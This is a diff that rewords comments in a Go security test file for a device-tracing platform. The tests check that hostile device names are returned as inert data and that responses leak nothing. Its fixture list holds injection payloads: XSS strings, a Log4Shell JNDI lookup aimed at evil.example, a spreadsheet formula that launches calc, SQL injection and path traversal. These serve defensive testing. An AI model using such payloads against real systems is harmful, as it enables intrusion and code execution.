@@ -18,17 +18,17 @@ import (
 	"devicetrace/infra/local/demo/ends"
 )
 
-// hostileNames are names that a device or a sender could choose so that a program that shows them
-// takes them for something else.
+// hostileNames are names that a device or a sender could choose so that a program that displays
+// them mistakes them for something else, such as markup or a formula.
 var hostileNames = []string{
 	"<script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "{{constructor}}", "${jndi:ldap://evil.example/a}",
 	"line\nbreak", "line\r\n{\"level\":\"ERROR\",\"msg\":\"forged\"}", "\x1b[2J\x1b]0;title\x07", "\x1b[31mred", "back\b\b\b\bspace", "\u2028{\"forged\":1}", "\u202eright-to-left", "nul\x00byte",
 	"=1+1", "+1", "-1", "@SUM(1)", "\t=1", "=cmd|' /C calc'!A0", "\uff1d1+1", "'; DROP TABLE events; --", "../../etc/passwd", "%s%n%x", strings.Repeat("A", 60_000),
 }
 
-// TestAttackNames: hostile names must be returned unchanged, and as data. No browser may take the
-// JSON for a page, no spreadsheet a CSV cell for a formula, and each log record must stay on one
-// line.
+// TestAttackNames checks that hostile names are returned unchanged, and as data. No browser may
+// take the JSON for a page, and no spreadsheet may take a CSV cell for a formula. Each log record
+// must stay on one line.
 func TestAttackNames(t *testing.T) {
 	t.Parallel()
 	count := countAttacks(t)
@@ -39,7 +39,7 @@ func TestAttackNames(t *testing.T) {
 		body, err := json.Marshal(event)
 		require.NoError(t, err)
 		r := s.post(t, "/webhooks/events/names", body, http.Header{"X-Log-Position": {"p"}, "User-Agent": {"</script>\t${x}"}})
-		if r.status == 400 { // an MQTT string cannot hold this name
+		if r.status == 400 { // this name is not a valid MQTT string
 			require.Contains(t, string(r.body), `"rejected":[{`)
 			count.note(r)
 			continue
@@ -60,10 +60,11 @@ func TestAttackNames(t *testing.T) {
 	s.requireWholeLines(t)
 }
 
-// requireNamed queries a device in JSON and CSV.
+// requireNamed queries the device with the given name, as JSON and as CSV, and checks both
+// responses.
 func requireNamed(t *testing.T, s *stack, name string, from time.Time) {
 	t.Helper()
-	if len(name) > 1000 { // the platform's limit for URLs is 4 KB
+	if len(name) > 1000 { // the platform limits URLs to 4 KB
 		return
 	}
 	q := question("names", name, from.Add(-time.Minute), time.Now())
@@ -85,8 +86,8 @@ func requireNamed(t *testing.T, s *stack, name string, from time.Time) {
 	}
 }
 
-// connectNamed connects devices with hostile names to the local broker, with a valid and an invalid
-// login.
+// connectNamed connects a device with each hostile name to the local broker, once with a valid
+// login and once with an invalid one.
 func (s *stack) connectNamed(t *testing.T) {
 	t.Helper()
 	for _, name := range hostileNames {
@@ -101,8 +102,8 @@ func (s *stack) connectNamed(t *testing.T) {
 // fixedLine matches the lines that the platform's SDK logs for each call.
 var fixedLine = regexp.MustCompile(`^FC (Invoke|Initialize|PreStop) (Start|End) RequestId: [0-9a-z-]+$`)
 
-// requireWholeLines checks that every line of the functions' log is one record, and that no output
-// can move a terminal's cursor.
+// requireWholeLines checks that every line of the functions' log is one whole record, and that
+// neither the log nor the stack's output can move a terminal's cursor.
 func (s *stack) requireWholeLines(t *testing.T) {
 	t.Helper()
 	logged, err := os.ReadFile(filepath.Join(s.data, "functions.log"))
@@ -126,8 +127,9 @@ func (s *stack) requireWholeLines(t *testing.T) {
 // internals matches details of the implementation, which no response may reveal.
 var internals = regexp.MustCompile(`goroutine|panic|\.go:|runtime error|secret|STS\.|<Error>|oss-|aliyuncs`)
 
-// TestAttackResponses: no response with private data and no refusal may be cached, have its type
-// guessed, be readable by a page of another origin, or reveal details of the implementation.
+// TestAttackResponses checks responses with private data, and refusals. No shared cache may store
+// them, no browser may guess their type, and no page of another origin may read them. None may
+// reveal details of the implementation.
 func TestAttackResponses(t *testing.T) {
 	t.Parallel()
 	s := newStackWith(t, "ADMIN_TOKEN="+adminToken)
